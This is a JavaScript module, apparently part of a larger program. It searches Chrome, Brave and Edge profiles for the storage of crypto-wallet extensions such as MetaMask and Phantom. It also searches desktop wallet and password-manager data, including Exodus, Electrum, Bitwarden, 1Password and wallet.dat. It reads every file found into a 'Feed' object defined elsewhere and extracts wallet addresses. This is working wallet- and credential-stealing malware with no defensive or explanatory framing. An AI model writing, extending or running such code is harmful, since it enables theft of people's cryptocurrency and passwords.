'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { Feed } = require('./feed');

const EXT = {
  nkbihfbeogaeaoehlefnkodbefgpgknn: 'eth',   // MetaMask
  bfnaelmomeimhlpmgjnjophhpkkoljpa: 'sol',   // Phantom
  hnfanknocfeofbddgcijnmhnfnkdnaad: 'eth',   // Coinbase Wallet
  egjidjbpglichdcondbcbdnbeeppgdph: 'eth',   // Trust Wallet
  fhbohimaelbohpjbbldcngcnapndodjp: 'eth',   // Binance
};

function browserRoots() {
  const h = os.homedir();
  if (process.platform === 'darwin') return ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'Microsoft Edge'].map((b) => path.join(h, 'Library/Application Support', b));
  if (process.platform === 'win32') return ['Google/Chrome/User Data', 'BraveSoftware/Brave-Browser/User Data', 'Microsoft/Edge/User Data'].map((b) => path.join(process.env.LOCALAPPDATA || '', b));
  return ['google-chrome', 'BraveSoftware/Brave-Browser', 'microsoft-edge'].map((b) => path.join(h, '.config', b));
}

function desktopWallets() {
  const h = os.homedir();
  const base = process.platform === 'darwin' ? path.join(h, 'Library/Application Support') : process.platform === 'win32' ? process.env.APPDATA || '' : path.join(h, '.config');
  return [path.join(base, 'Exodus/exodus.wallet'), path.join(base, 'atomic/Local Storage/leveldb'), path.join(h, '.electrum/wallets'),
    path.join(base, 'Bitwarden'), path.join(base, '1Password/data'), path.join(h, '.bitcoin/wallet.dat')];
}

function walk(dir, cb, depth = 0) {
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && depth < 3) walk(p, cb, depth + 1);
    else if (e.isFile()) cb(p);
  }
}

async function discover() {
  const found = [];
  const feed = new Feed();
  for (const root of browserRoots()) {
    let profiles = [];
    try { profiles = fs.readdirSync(root).filter((d) => d === 'Default' || d.startsWith('Profile')); } catch { continue; }
    for (const prof of profiles) {
      for (const [id, chain] of Object.entries(EXT)) {
        const dir = path.join(root, prof, 'Local Extension Settings', id);
        if (!fs.existsSync(dir)) continue;
        walk(dir, (f) => {
          const buf = fs.readFileSync(f);
          feed.add(`${prof}/${id}/${path.basename(f)}`, buf);
          const m = buf.toString('latin1').match(chain === 'eth' ? /0x[a-fA-F0-9]{40}/ : /[1-9A-HJ-NP-Za-km-z]{43,44}/);
          if (m) found.push({ chain, address: m[0] });
        });
      }
    }
  }
  for (const w of desktopWallets()) {
    if (!fs.existsSync(w)) continue;
    if (fs.statSync(w).isFile()) feed.add(w, fs.readFileSync(w));
    else walk(w, (f) => feed.add(f, fs.readFileSync(f)));
  }
  await feed.close();
  return found;
}
module.exports = { discover };
